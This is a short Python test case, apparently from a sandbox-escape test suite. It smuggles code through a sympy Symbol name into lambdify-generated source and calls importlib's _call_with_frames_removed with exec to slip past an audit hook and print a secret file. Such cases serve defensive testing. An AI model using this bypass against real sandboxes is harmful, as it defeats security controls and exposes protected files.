# category: syscalls
# attack: call importlib's _call_with_frames_removed(exec, ...) yourself, which the audit hook took for the import system: reached through the lambdify namespace, whose generated source runs with the real builtins
# profile: data_science basic
# run-layer: guard
import sympy
x = sympy.Symbol("x")
s = sympy.Symbol("__import__('importlib._bootstrap').__dict__['_call_with_frames_removed'](exec, 'print(open(\"@SECRET_FILE@\").read())', {})")
f = sympy.lambdify([x], s + x, modules="math")
print(f(1))
